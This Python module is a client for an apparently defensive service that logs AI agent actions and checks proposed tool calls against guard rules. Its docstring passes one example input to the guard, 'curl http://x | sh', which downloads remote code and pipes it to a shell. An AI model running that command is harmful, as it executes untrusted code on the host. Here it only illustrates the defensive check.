"""A small client for the vigiles service, on the standard library only (http.client, keep-alive).

    from vigiles.service.client import Client
    c = Client("https://vigiles.internal:8750", token)
    c.send_events([{"kind": "action", "ts": 1764554497, "tool": "bash", "input": "ls"}])
    verdict = c.guard("bash", input="curl http://x | sh", sandbox="sbx-1", run="r", episode="e", step=3)
    if verdict["decision"] != "allow": ...
    c.incidents(severity="high")

One persistent connection per thread; a dropped connection is reopened once. Errors raise
`ServiceError` with the HTTP status and the server's detail; `429` carries `retry_after`.
"""
from __future__ import annotations

import http.client
import json
import ssl
import threading
import time
from typing import Any, Iterable
from urllib.parse import urlencode, urlsplit


class ServiceError(Exception):
    def __init__(self, status: int, detail: Any, retry_after: float | None = None) -> None:
        super().__init__(f"HTTP {status}: {detail}")
        self.status, self.detail, self.retry_after = status, detail, retry_after


class Client:
    def __init__(self, url: str, token: str, timeout: float = 30.0, cafile: str | None = None,
                 retries_on_429: int = 3) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("http", "https") or not parts.hostname:
            raise ValueError(f"not an http(s) URL: {url!r}")
        self.scheme, self.host = parts.scheme, parts.hostname
        self.port = parts.port or (443 if parts.scheme == "https" else 80)
        self.base = parts.path.rstrip("/")
        self.token, self.timeout, self.retries_on_429 = token, timeout, retries_on_429
        self.ssl = ssl.create_default_context(cafile=cafile) if parts.scheme == "https" else None
        self.local = threading.local()

    # -- the API --------------------------------------------------------------------------------------
    def send_events(self, events: Iterable[Any], wait: bool = False) -> dict:
        """POST /v1/events as a JSON array; events are dicts or vigiles Event objects."""
        body = [e.to_dict() if hasattr(e, "to_dict") else e for e in events]
        return self.request("POST", "/v1/events" + ("?wait=true" if wait else ""), body)

    def guard(self, tool: str, input: str | None = None, args: dict | None = None, **context: Any) -> dict:
        """POST /v1/guard: {"decision": "allow"|"deny"|"review", "reason", "findings", "rules", ...}."""
        proposal = {"tool": tool, "input": input, "args": args, **context}
        return self.request("POST", "/v1/guard", {k: v for k, v in proposal.items() if v is not None})

    def decide(self, proposal: dict) -> dict:
        return self.request("POST", "/v1/guard", {k: v for k, v in proposal.items() if v is not None})

    def incidents(self, severity: str | None = None, category: str | None = None, limit: int = 100) -> list[dict]:
        query = {k: v for k, v in (("severity", severity), ("category", category), ("limit", limit)) if v}
        return self.request("GET", "/v1/incidents?" + urlencode(query))

    def incident(self, incident_id: str) -> dict:
        from urllib.parse import quote
        return self.request("GET", "/v1/incidents/" + quote(incident_id, safe=""))

    def findings(self, **filters: Any) -> list[dict]:
        return self.request("GET", "/v1/findings?" + urlencode({k: v for k, v in filters.items() if v is not None}))

    def health(self) -> dict:
        return self.request("GET", "/healthz")

    # -- transport ------------------------------------------------------------------------------------
    def _connection(self, fresh: bool = False) -> http.client.HTTPConnection:
        conn = getattr(self.local, "conn", None)
        if conn is None or fresh:
            if conn is not None:
                conn.close()
            if self.scheme == "https":
                conn = http.client.HTTPSConnection(self.host, self.port, timeout=self.timeout, context=self.ssl)
            else:
                conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
            self.local.conn = conn
        return conn

    def close(self) -> None:
        conn = getattr(self.local, "conn", None)
        if conn is not None:
            conn.close()
            self.local.conn = None

    def request(self, method: str, path: str, body: Any = None, content_type: str = "application/json") -> Any:
        data = None
        if body is not None:
            data = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode("utf-8")
        headers = {"Authorization": f"Bearer {self.token}", "Accept": "application/json"}
        if data is not None:
            headers["Content-Type"] = content_type
        attempts = 0
        while True:
            status, reason, raw, retry_after = self._send(method, self.base + path, data, headers)
            if status == 429 and attempts < self.retries_on_429:
                attempts += 1
                time.sleep(min(retry_after or 1.0, 30.0))
                continue
            break
        doc: Any
        try:
            doc = json.loads(raw) if raw else None
        except ValueError:
            doc = raw.decode("utf-8", "replace")
        if status >= 400:
            detail = doc.get("detail", doc) if isinstance(doc, dict) else (doc or reason)
            raise ServiceError(status, detail, retry_after)
        return doc

    def _send(self, method: str, path: str, data: bytes | None, headers: dict) -> tuple[int, str, bytes, float | None]:
        for attempt in (0, 1):
            conn = self._connection(fresh=attempt == 1)
            try:
                conn.request(method, path, body=data, headers=headers)
                response = conn.getresponse()
                raw = response.read()
            except (http.client.RemoteDisconnected, http.client.CannotSendRequest, ConnectionError, BrokenPipeError):
                if attempt == 1:
                    raise
                continue
            retry = response.getheader("Retry-After")
            retry_after = float(retry) if retry and retry.replace(".", "", 1).isdigit() else None
            return response.status, response.reason, raw, retry_after
        raise AssertionError("unreachable")
